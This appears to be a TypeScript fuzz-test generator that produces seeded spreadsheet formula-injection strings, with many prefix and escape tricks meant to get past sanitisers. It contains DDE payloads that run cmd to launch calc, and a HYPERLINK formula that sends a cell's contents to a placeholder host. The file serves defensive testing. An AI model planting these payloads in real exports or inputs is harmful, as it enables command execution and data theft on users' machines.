// Texts that a spreadsheet may run as a formula, or that try to get past what keeps them from it. Seeded.
import { Random } from '../fuzz/random.ts';

const SIGNS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', ' =', '  +', '\u00a0=', '"=', '""=', '";=', ',=', '\';=', '\'=', '\'\'=', '\'@', '=-', '=+', '\u200b=', '|=', '%0A=', '\u0001=', '\u0000=', '\'\u0000=', '\v=', '\ufeff=', '\'＝', '\'\n='];
const BODIES = ['1+1', 'SUM(1,1)', "cmd|' /C calc'!A0", 'HYPERLINK("http://example.invalid/?x="&A1,"open")', 'WEBSERVICE("http://example.invalid")', 'DDE("cmd";"/C calc";"x")', 'IMPORTXML("http://example.invalid","//a")', '1)*(2', 'A1&B1', 'MSEXCEL|\'\\..\\..\\cmd.exe /c calc\'!_xlbgnm.A1', '"a";=1+1', '{=1+1}', 'of:=SUM([.A1])', '_x003D_1', '<f>1+1</f>', '0x41', 'TRUE()'];
const ENDS = ['', '', '', ' ', '"', '\n=2+2', '\t', ';=3+3', ',=3+3', '\r\n@x'];

/** `count` texts, no two of one seed alike. */
export function formulaPayloads(count: number, seed: number): string[] {
	const random = new Random(seed);
	const pick = <T>(from: readonly T[]): T => from[random.below(from.length)]!;
	const texts = new Set<string>();
	while (texts.size < count) texts.add(`${pick(SIGNS)}${pick(BODIES)}${pick(ENDS)}${texts.size % 3 === 0 ? texts.size : ''}`);
	return [...texts];
}
